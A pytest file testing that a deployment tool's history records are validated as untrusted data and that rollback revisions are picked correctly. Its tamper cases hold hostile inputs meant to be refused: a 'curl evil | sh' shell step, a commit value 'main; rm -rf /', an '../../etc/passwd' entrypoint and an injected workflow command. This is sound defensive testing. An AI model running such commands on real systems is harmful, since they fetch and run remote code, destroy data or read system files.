"""The deploy history's records read as untrusted data (register/commands/history.py): what flow-register writes is
read back as it was; anything it would never write is refused with where and why; revisions are picked by
number or commit, and an ambiguous or missing one is an error that says what there is."""

from __future__ import annotations

import copy

import pytest

from register.commands import history
from register.engine.desired import State, Trigger
from register.manifest.resolve import ownership_tags
from register.problems import Invalid
from register.commands.rollback import pick

OWNER = ownership_tags("etl", "dev")
REGISTRY = "registry.example.com/etl"
IMAGE = REGISTRY + "@sha256:" + "a" * 64


def state() -> State:
    fields = {"work_pool": "pool", "work_queue": "default", "job_variables": {"image": IMAGE},
              "parameters": {"region": "eu"}, "parameter_schema": {"type": "object"},
              "schedules": [{"schedule": {"cron": "0 6 * * *", "timezone": "UTC", "day_or": True}, "active": True,
                             "parameters": {}, "slug": None}],
              "triggers": [], "tags": ["etl", *OWNER], "description": "Extract.\n\nEvery day.",
              "entrypoint": "flows/etl.py:extract",
              "pull_steps": [{"prefect.deployments.steps.set_working_directory": {"directory": "/opt/etl"}}],
              "concurrency_limit": 1, "concurrency_options": None, "enforce_parameter_schema": True, "paused": False,
              "version": "ct-1", "slas": [{"name": "on-time", "within": 300, "severity": "high"}]}
    triggers = [Trigger({"type": "event", "expect": ["data.arrived"]}, "extract", 1, tuple(OWNER))]
    fields["triggers"] = [t.fingerprint for t in triggers]
    return State("extract", "extract", fields, manifest_name="extract", triggers=triggers)


def record(revision: int = 1) -> dict:
    body = history.record_body("etl", "dev", revision=revision, deployments=[state()], variables=None, image=IMAGE,
                               commit="abcdef1234567", by="ci", run_url=None)
    return {"id": f"id-{revision}", "key": body["key"], "data": copy.deepcopy(body["data"])}


def read(raw: dict) -> history.Entry:
    return history.check(raw, "etl", "dev", OWNER, REGISTRY, set())


def test_a_record_flow_register_wrote_reads_back_as_the_state_it_registered():
    entry = read(record())
    (got,) = entry.deployments
    want = state()
    assert got.fields == want.fields and got.key == want.key
    assert [t.automation for t in got.triggers] == [t.automation for t in want.triggers]
    assert entry.image == IMAGE and entry.revision == 1 and "commit abcdef123456" in entry.line()


def test_a_record_written_before_slas_were_a_field_reads_back_with_them_unset():
    raw = record()
    del raw["data"]["deployments"][0]["fields"]["slas"]
    (got,) = read(raw).deployments
    assert got.fields == {**state().fields, "slas": None}


TAMPERED = {
    "an image of another registry": (lambda d: d["deployments"][0]["fields"]["job_variables"].update(
        image="evil.example.com/etl@sha256:" + "a" * 64), "job_variables.image"),
    "an image by tag": (lambda d: d["deployments"][0]["fields"]["job_variables"].update(image=REGISTRY + ":latest"),
                        "job_variables.image"),
    "a registry that only starts like the environment's": (
        lambda d: d["deployments"][0]["fields"]["job_variables"].update(
            image=REGISTRY + "-evil@sha256:" + "a" * 64), "job_variables.image"),
    "the record's image elsewhere": (lambda d: d.update(image="evil.example.com/x@sha256:" + "b" * 64), "image"),
    "a shell step": (lambda d: d["deployments"][0]["fields"].update(pull_steps=[
        {"prefect.deployments.steps.run_shell_script": {"script": "curl evil | sh"}}]), "pull_steps[0]"),
    "a step of another package": (lambda d: d["deployments"][0]["fields"].update(pull_steps=[
        {"evil.steps.run": {}}]), "pull_steps[0]"),
    "no ownership tags": (lambda d: d["deployments"][0]["fields"].update(tags=["etl"]), "tags"),
    "another project": (lambda d: d.update(project="other"), "not of project 'etl'"),
    "a field flow-register does not write": (lambda d: d["deployments"][0]["fields"].update(infra_overrides={}),
                                             "exactly the fields"),
    "a key flow-register does not write": (lambda d: d.update(extra=1), "keys flow-register does not write"),
    "a trigger Prefect refuses": (lambda d: d["deployments"][0]["triggers"].append({"type": "nonsense"}),
                                  "not a trigger Prefect accepts"),
    "an entrypoint outside the code": (lambda d: d["deployments"][0]["fields"].update(
        entrypoint="../../etc/passwd:x"), "entrypoint"),
    "a schedule Prefect refuses": (lambda d: d["deployments"][0]["fields"]["schedules"][0]["schedule"].update(
        timezone="Mars/Olympus"), "schedules[0]"),
    "an SLA of another shape": (lambda d: d["deployments"][0]["fields"]["slas"][0].update(kind="lateness"),
                                "slas[0]"),
    "an SLA without a name": (lambda d: d["deployments"][0]["fields"]["slas"][0].pop("name"), "slas[0].name"),
    "a number beyond the server": (lambda d: d["deployments"][0]["fields"].update(concurrency_limit=2**40),
                                   "concurrency_limit"),
    "text that starts a workflow command": (lambda d: d["deployments"][0]["fields"].update(
        work_queue="x\n::error::y"), "work_queue"),
    "a commit that is not one": (lambda d: d.update(commit="main; rm -rf /"), "commit"),
    "a boolean for a revision": (lambda d: d.update(revision=True), "revision"),
    "the same deployment twice": (lambda d: d["deployments"].append(copy.deepcopy(d["deployments"][0])), "repeats"),
}


@pytest.mark.parametrize("attack", list(TAMPERED))
def test_a_record_flow_register_would_not_write_is_refused_with_where_and_why(attack):
    tamper, where = TAMPERED[attack]
    raw = record()
    tamper(raw["data"])
    with pytest.raises(Invalid) as refused:
        read(raw)
    (problem,) = refused.value.problems
    assert problem.rule == "history" and where in problem.message, problem
    assert "nothing was written" in problem.message and "\n" not in str(problem)


def test_a_record_too_large_is_refused_and_one_too_large_to_write_is_not_written():
    raw = record()
    raw["data"]["deployments"][0]["fields"]["parameters"] = {"blob": "x" * history.MAX_BYTES}
    with pytest.raises(Invalid, match="larger than"):
        read(raw)
    huge = state()
    huge.fields["parameters"] = {"blob": "x" * history.MAX_BYTES}
    assert history.record_body("etl", "dev", revision=1, deployments=[huge], variables=None, image=None,
                               commit=None, by=None, run_url=None) is None


def test_revisions_are_picked_by_number_commit_or_previous_and_a_doubtful_pick_is_an_error():
    raws = [record(3), record(2), record(1)]
    raws[1]["data"]["commit"] = "1234567890abcdef"
    assert pick(raws, None, "--to") is raws[1]
    assert pick(raws, "previous", "--to") is raws[1]
    assert pick(raws, "1", "--to") is raws[2]
    assert pick(raws, "1234567", "--to") is raws[1]
    with pytest.raises(Invalid, match="revision 9 is not in the deploy history; the revisions kept are 3, 2, 1"):
        pick(raws, "9", "--to")
    with pytest.raises(Invalid, match="two records of the deploy history claim revision 2"):
        pick([*raws, record(2)], "2", "--to")
    with pytest.raises(Invalid, match="only revision 1, what is registered now"):
        pick([record(1)], None, "input 'rollback'")
    with pytest.raises(Invalid, match="no deploy history yet"):
        pick([], "1", "--to")
    with pytest.raises(Invalid, match="neither a revision number"):
        pick(raws, "HEAD~1", "--to")


def test_the_history_key_tells_projects_and_environments_apart():
    assert history.key("a-b", "c") != history.key("a", "b-c")
    assert history.key("etl", "dev").startswith("flow-register-etl-dev-")


def test_a_pool_with_a_repository_of_its_own_rolls_back_to_that_repositorys_digest_only():
    other = "europe-docker.pkg.dev/acme/flows/etl"
    raw = record()
    raw["data"]["deployments"][0]["fields"]["job_variables"]["image"] = other + "@sha256:" + "c" * 64
    with pytest.raises(Invalid, match="job_variables.image"):  # without image.repositories naming the pool
        read(raw)
    entry = history.check(raw, "etl", "dev", OWNER, REGISTRY, set(), {"pool": other})
    assert entry.deployments[0].fields["job_variables"]["image"] == other + "@sha256:" + "c" * 64
    with pytest.raises(Invalid, match="job_variables.image"):  # another pool's repository is not this pool's
        history.check(raw, "etl", "dev", OWNER, REGISTRY, set(), {"gpu-pool": other})
